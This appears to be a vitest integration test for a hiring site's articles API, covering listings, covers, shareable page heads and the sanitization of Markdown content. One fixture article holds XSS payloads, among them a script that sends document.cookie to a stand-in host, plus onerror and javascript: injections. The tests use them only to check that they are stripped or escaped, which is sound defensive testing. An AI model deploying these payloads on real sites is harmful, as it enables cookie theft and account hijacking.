import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Article, ArticleList } from '@talvio/contracts/articles';
import type { Problem } from '@talvio/contracts/common';
import { readingMinutes, wordCount } from '@talvio/domain/articles';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { descriptionText } from '../../safe-html.ts';
import { useTestApp } from '../../testing/test-app.ts';
import { syncArticles } from './articles.service.ts';

/**
 * The hiring guides (docs/product/articles.md) over real HTTP: the list, one article, its cover, and the head of
 * the app's page at both of its addresses. The app serves a web build made of the real index.html.
 */

const webIndex = readFileSync(
  resolve(dirname(fileURLToPath(import.meta.url)), '../../../../web/index.html'),
  'utf8',
);

/** A web build of one file, so the API serves the app's page for article addresses; removed afterwards. */
function webDist(): string {
  const dir = mkdtempSync(join(tmpdir(), 'talvio-articles-web-'));
  mkdirSync(join(dir, 'assets'));
  writeFileSync(join(dir, 'index.html'), webIndex);
  afterAll(async () => rm(dir, { recursive: true, force: true }));
  return dir;
}

const summaryFields = [
  'author',
  'cover',
  'id',
  'published_at',
  'reading_minutes',
  'slug',
  'summary',
  'title',
];

async function json<T>(res: Response): Promise<T> {
  return (await res.json()) as T;
}

/** The content of a head tag, as written (still HTML-escaped). */
function tag(html: string, pattern: RegExp): string | undefined {
  return pattern.exec(html)?.[1];
}
const metaProperty = (html: string, property: string) =>
  tag(html, new RegExp(`<meta property="${property}" content="([^"]*)"`));
const metaName = (html: string, name: string) =>
  tag(html, new RegExp(`<meta name="${name}" content="([^"]*)"`));
const canonical = (html: string) => tag(html, /<link rel="canonical" href="([^"]*)"/);
const titleOf = (html: string) => tag(html, /<title>([^<]*)<\/title>/);

describe('the shipped guides', () => {
  const t = useTestApp({ overrides: { webDist: webDist() } });
  let list: ArticleList;
  beforeAll(async () => {
    list = await json<ArticleList>(await fetch(`${t.url}/api/articles`));
  });

  it('latest first: GET /api/articles lists every guide without a session, newest first, with its fields', async () => {
    const res = await fetch(`${t.url}/api/articles`);
    expect(res.status).toBe(200);
    expect(list.items).toHaveLength(6);
    const dates = list.items.map((a) => a.published_at);
    expect(dates).toEqual([...dates].sort().reverse());
    expect(list.items[0]?.slug).toBe('candidate-data-privacy');
    for (const item of list.items) {
      expect(Object.keys(item).sort()).toEqual(summaryFields);
      expect(item.published_at).toMatch(/^2026-\d\d-\d\d$/);
      expect(item.cover).toMatch(new RegExp(`^/api/articles/${item.id}/cover\\.svg\\?v=[0-9a-f]{12}$`));
      expect(item.reading_minutes).toBeGreaterThanOrEqual(4);
    }
  });

  it('reading time: an article reads in its words ÷ 220 minutes, rounded up', async () => {
    for (const item of list.items) {
      const article = await json<Article>(await fetch(`${t.url}/api/articles/${item.id}`));
      expect(article.reading_minutes).toBe(readingMinutes(wordCount(descriptionText(article.body_html))));
    }
  });

  it('one article: GET /api/articles/{id} is the list entry with its body as HTML', async () => {
    const item = list.items.find((a) => a.slug === 'structured-interviews')!;
    const res = await fetch(`${t.url}/api/articles/${item.id}`);
    expect(res.status).toBe(200);
    const article = await json<Article>(res);
    const { body_html, ...summary } = article;
    expect(summary).toEqual(item);
    expect(body_html).toMatch(/^<p>Most interviews are conversations\./);
    expect(body_html).toContain('<h2>What makes an interview structured</h2>');
    expect(body_html).toContain('<ul>');
  });

  it('one article: an unknown id is a 404 problem; an id that is not a number is a 400 naming the id', async () => {
    const missing = await fetch(`${t.url}/api/articles/999999`);
    expect(missing.status).toBe(404);
    expect(missing.headers.get('content-type')).toContain('application/problem+json');
    expect(await json<Problem>(missing)).toMatchObject({ status: 404, code: 'not_found' });
    for (const bad of ['abc', '0', '-3', '99999999999']) {
      const res = await fetch(`${t.url}/api/articles/${bad}`);
      expect(res.status, bad).toBe(400);
      expect(res.headers.get('content-type')).toContain('application/problem+json');
      expect((await json<Problem>(res)).field, bad).toBe('id');
    }
  });

  it('covers: the cover is an SVG of at most 4 kB, cached for good, never run as a document', async () => {
    const item = list.items[0]!;
    const res = await fetch(`${t.url}${item.cover}`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('image/svg+xml; charset=utf-8');
    expect(res.headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
    expect(res.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
    const svg = await res.text();
    expect(svg).toMatch(/^<svg xmlns="http:\/\/www\.w3\.org\/2000\/svg"/);
    expect(Buffer.byteLength(svg)).toBeLessThanOrEqual(4096);
    expect((await fetch(`${t.url}/api/articles/999999/cover.svg`)).status).toBe(404);
  });

  it('both routes, one article: /articles/{id} and /article/{id} serve the app with the same article in the head', async () => {
    const item = list.items.find((a) => a.slug === 'candidate-experience')!;
    const [plural, singular] = await Promise.all(
      [`/articles/${item.id}`, `/article/${item.id}`].map(async (path) => {
        const res = await fetch(`${t.url}${path}`);
        expect(res.status, path).toBe(200);
        expect(res.headers.get('content-type'), path).toContain('text/html');
        expect(res.headers.get('cache-control'), path).toBe('no-cache');
        return res.text();
      }),
    );
    expect(singular).toBe(plural);
    expect(plural).toContain('<div id="root"></div>');
  });

  it('shareable: an article page has its title, description, Open Graph tags and canonical /articles/{id}', async () => {
    const item = list.items.find((a) => a.slug === 'candidate-experience')!;
    const html = await (await fetch(`${t.url}/article/${item.id}?utm_source=newsletter`)).text();
    const url = `${t.config.publicUrl}/articles/${item.id}`;
    expect(titleOf(html)).toBe('Candidate experience: how to treat applicants well at every stage — Talvio');
    expect(html.match(/<meta name="description"/g)).toHaveLength(1);
    expect(metaName(html, 'description')).toBe(item.summary);
    expect(metaProperty(html, 'og:type')).toBe('article');
    expect(metaProperty(html, 'og:title')).toBe(item.title);
    expect(metaProperty(html, 'og:description')).toBe(item.summary);
    expect(metaProperty(html, 'og:url')).toBe(url);
    expect(canonical(html)).toBe(url);
  });

  it('shareable: an unknown article, or an address that is no article, gets the plain page', async () => {
    for (const path of ['/articles/999999', '/article/abc', '/articles/0']) {
      const res = await fetch(`${t.url}${path}`);
      expect(res.status, path).toBe(200);
      const html = await res.text();
      expect(html, path).toBe(webIndex);
      expect(metaProperty(html, 'og:title'), path).toBeUndefined();
    }
  });
});

describe('guides from other files', () => {
  const contentDir = mkdtempSync(join(tmpdir(), 'talvio-articles-content-'));
  const cover =
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 4 2"><rect width="4" height="2"/></svg>';
  const file = (slug: string, title: string, published: string, body: string) =>
    [
      '---',
      `slug: ${slug}`,
      `title: ${title}`,
      `summary: The "summary" of ${slug} <b>&</b> more.`,
      'author: A Writer',
      `published: ${published}`,
      'cover: cover.svg',
      '---',
      '',
      body,
      '',
    ].join('\n');
  mkdirSync(join(contentDir, 'covers'));
  writeFileSync(join(contentDir, 'covers', 'cover.svg'), cover);
  writeFileSync(
    join(contentDir, 'hostile.md'),
    file(
      'hostile',
      'Bias & "fairness" <script>alert(1)</script>',
      '2026-01-05',
      [
        'Opening words.',
        '',
        '<script>document.location = "https://example.org/?" + document.cookie</script>',
        '',
        '<img src="x" onerror="alert(2)"> and <a href="javascript:alert(3)">a link</a>.',
        '',
        '<SCRIPT SRC=https://example.org/x.js></SCRIPT>',
        '',
        'Closing words.',
      ].join('\n'),
    ),
  );
  writeFileSync(join(contentDir, 'plain.md'), file('plain', 'Plain guide', '2026-02-01', 'Plain words.'));

  const t = useTestApp({ overrides: { webDist: webDist(), articlesDir: contentDir } });
  afterAll(async () => rm(contentDir, { recursive: true, force: true }));

  const bySlug = async (slug: string) =>
    (await json<ArticleList>(await fetch(`${t.url}/api/articles`))).items.find((a) => a.slug === slug);

  it('safe body: a <script> in the Markdown never reaches body_html, nor do event handlers or javascript: links', async () => {
    const hostile = await bySlug('hostile');
    const article = await json<Article>(await fetch(`${t.url}/api/articles/${hostile!.id}`));
    expect(article.body_html).not.toMatch(/<script|document\.cookie|onerror|javascript:|<img|x\.js/i);
    expect(article.body_html).toContain('Opening words.');
    expect(article.body_html).toContain('Closing words.');
    expect(article.body_html).toContain('a link');
  });

  it('shareable: the head HTML-escapes the title and description at both addresses', async () => {
    const hostile = await bySlug('hostile');
    for (const path of [`/articles/${hostile!.id}`, `/article/${hostile!.id}`]) {
      const html = await (await fetch(`${t.url}${path}`)).text();
      expect(html, path).not.toContain('<script>alert(1)</script>');
      expect(html, path).not.toContain('<b>&</b>');
      expect(titleOf(html), path).toBe(
        'Bias &amp; &quot;fairness&quot; &lt;script&gt;alert(1)&lt;/script&gt; — Talvio',
      );
      expect(metaProperty(html, 'og:title'), path).toBe(
        'Bias &amp; &quot;fairness&quot; &lt;script&gt;alert(1)&lt;/script&gt;',
      );
      expect(metaProperty(html, 'og:description'), path).toBe(
        'The &quot;summary&quot; of hostile &lt;b&gt;&amp;&lt;/b&gt; more.',
      );
    }
  });

  it('guides from files: an edited file rewrites its article under the same id; a new file adds one; a removed file removes it', async () => {
    const before = (await bySlug('plain'))!;
    const dir = await mkdtemp(join(tmpdir(), 'talvio-articles-edited-'));
    await mkdir(join(dir, 'covers'));
    await writeFile(join(dir, 'covers', 'cover.svg'), cover);
    await writeFile(
      join(dir, 'plain.md'),
      file('plain', 'Plain guide, revised', '2026-02-01', 'New words here.'),
    );
    await writeFile(join(dir, 'added.md'), file('added', 'Added guide', '2026-03-01', 'Added words.'));

    expect(await syncArticles(t.app.ctx, dir)).toEqual({ added: 1, updated: 1, removed: 1 });
    const after = (await bySlug('plain'))!;
    expect(after.id).toBe(before.id);
    expect(after.title).toBe('Plain guide, revised');
    expect(after.cover).not.toBe(before.cover);
    const body = await json<Article>(await fetch(`${t.url}/api/articles/${after.id}`));
    expect(body.body_html).toBe('<p>New words here.</p>');
    expect(await bySlug('hostile')).toBeUndefined();
    expect((await bySlug('added'))?.id).toBeGreaterThan(after.id);

    // Nothing changed: nothing is written, and the ids stay.
    expect(await syncArticles(t.app.ctx, dir)).toEqual({ added: 0, updated: 0, removed: 0 });
    expect((await bySlug('plain'))?.id).toBe(before.id);
    await rm(dir, { recursive: true, force: true });
  });
});
